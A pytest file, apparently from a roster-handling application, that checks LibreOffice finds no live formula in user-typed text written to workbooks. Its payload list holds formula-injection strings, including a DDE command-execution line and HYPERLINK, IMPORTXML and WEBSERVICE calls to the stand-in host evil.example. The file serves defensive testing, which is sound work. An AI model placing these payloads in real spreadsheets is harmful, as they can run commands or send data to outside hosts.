"""No text that somebody typed becomes a formula when LibreOffice opens a workbook (attack A12)."""

import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from openpyxl import Workbook

from gateways.spreadsheets import Table, workbook
from gateways.workbooks import read_workbook, write_error_copy
from rules.roster_columns import find_layout
from tests.clients.programs import needs

pytestmark = pytest.mark.full
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    '=IMPORTXML("http://evil.example";"//a")',
    '=WEBSERVICE("http://evil.example")',
    "%=1+1",
    "|=1+1",
    "{=1+1}",
    "'=1+1",
    ";=1+1",
)


def own_workbook() -> bytes:
    """A workbook of the program with a payload wherever a text can stand."""
    rows = tuple((number, text, date(2026, 11, 29)) for number, text in enumerate(PAYLOADS, 1))
    heads = ("STT", PAYLOADS[0], PAYLOADS[3])
    table = Table(PAYLOADS[0], PAYLOADS[1], heads, rows, total=(None, PAYLOADS[0], None))
    return workbook([table])


def returned_workbook(folder: Path) -> bytes:
    """A sender's own roster, given back with a column of sentences that quote the payloads."""
    book = Workbook()
    page = book.active
    assert page is not None
    page.append(["STT", "Họ và tên", "Năm sinh", "Chi bộ"])
    for number, text in enumerate(PAYLOADS, 1):
        page.append([number, None, "1950", "Chi bộ khối phố 1"])
        cell = page.cell(number + 1, 2, text)
        cell.data_type = "s"  # what was typed behind an apostrophe is text in the sender's own file
    path, target = folder / "danh-sach.xlsx", folder / "tra-lai.xlsx"
    book.save(path)
    sheet = read_workbook(path, "members")
    said = dict(enumerate(PAYLOADS, 2))
    write_error_copy(path, sheet, find_layout(sheet, "members"), said, target)
    return target.read_bytes()


def opened_by_libreoffice(content: bytes, folder: Path) -> tuple[list[str], str]:
    """The formulas that LibreOffice found, and all text of the sheets."""
    (folder / "tried.xlsx").write_bytes(content)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(folder)]
    subprocess.run(
        [*command, str(folder / "tried.xlsx")], check=True, capture_output=True, timeout=300
    )
    root = fromstring((folder / "tried.fods").read_bytes())
    cells = list(root.iter(f"{TABLE}table-cell"))
    formulas = [cell.get(f"{TABLE}formula") for cell in cells]
    return [text for text in formulas if text], "\n".join("".join(c.itertext()) for c in cells)


@pytest.mark.parametrize("kind", ["own", "returned"])
def test_libreoffice_finds_no_formula_in_what_was_typed(kind: str, tmp_path: Path) -> None:
    needs(shutil.which("soffice"), "soffice")
    content = own_workbook() if kind == "own" else returned_workbook(tmp_path)
    formulas, text = opened_by_libreoffice(content, tmp_path)
    assert formulas == []
    missing = [payload for payload in PAYLOADS if payload.strip() not in text]
    assert missing == []


def test_a_formula_would_be_found(tmp_path: Path) -> None:
    """The look itself: a workbook with a live formula is told apart."""
    needs(shutil.which("soffice"), "soffice")
    book = Workbook()
    page = book.active
    assert page is not None
    page.append(["=1+1"])
    book.save(tmp_path / "live.xlsx")
    formulas, _text = opened_by_libreoffice((tmp_path / "live.xlsx").read_bytes(), tmp_path)
    assert formulas == ["of:=1+1"]
